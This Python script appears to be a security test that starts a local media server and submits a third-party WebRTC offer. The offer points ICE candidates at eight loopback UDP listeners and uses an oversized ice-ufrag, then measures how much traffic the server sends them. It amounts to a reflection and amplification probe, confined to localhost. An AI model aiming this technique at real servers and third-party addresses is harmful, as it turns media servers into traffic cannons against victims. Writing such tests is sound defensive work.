# Attack: a third-party session whose offer names 8 candidates at UDP
# listeners, with a 60,000-character ice-ufrag and with the longest valid
# one (256): what the listeners receive in 20 s. The server is told to admit
# loopback targets (SWITCHBOARD_THIRD_PARTY_PRIVATE_CANDIDATES; builds
# without the flag ignore it and admit them anyway). Prints one JSON object.
# usage: third_party.py BIN PORT MPORT LOG
import os, sys, time, json, socket
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__))); from common import *
BIN, PORT, MPORT, LOG = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
FP = "sha-256 85:99:C2:23:6B:6A:EC:A1:8E:DE:8A:4E:36:82:34:D7:D5:18:5D:1E:7D:80:D7:4E:DC:64:AD:AA:60:06:E4:7B"
os.environ["SWITCHBOARD_THIRD_PARTY_PRIVATE_CANDIDATES"] = "true"
p = start_server(BIN, PORT, MPORT, LOG)
res = {}
try:
    for ufrag in ("u" * 60000, "u" * 256):
        socks = []
        for _ in range(8):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.1", 0)); s.setblocking(False); socks.append(s)
        sdp = ("v=0\r\no=- 1 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\na=group:BUNDLE 0\r\n"
               f"a=fingerprint:{FP}\r\na=ice-ufrag:{ufrag}\r\na=ice-pwd:abcdefghijklmnopqrstuvwx\r\na=setup:actpass\r\n"
               "m=audio 9 UDP/TLS/RTP/SAVPF 111\r\nc=IN IP4 0.0.0.0\r\na=mid:0\r\na=sendonly\r\na=rtcp-mux\r\na=rtpmap:111 opus/48000/2\r\n")
        sdp += "".join(f"a=candidate:{i} 1 udp 2113937151 127.0.0.1 {s.getsockname()[1]} typ host\r\n" for i, s in enumerate(socks))
        st, _, _ = api(PORT, "POST", "/sessions/new?thirdparty=true", {"sessionDescription": {"type": "offer", "sdp": sdp}})
        got = n = big = 0
        end = time.monotonic() + 20
        while time.monotonic() < end:
            for s in socks:
                while True:
                    try: d = s.recv(65536)
                    except BlockingIOError: break
                    got += len(d); n += 1; big = max(big, len(d))
            time.sleep(0.05)
        res[f"ufrag_{len(ufrag)}"] = {"status": st, "bytes_20s": got, "datagrams": n, "largest": big}
finally:
    stop_server(p)
print(json.dumps(res))
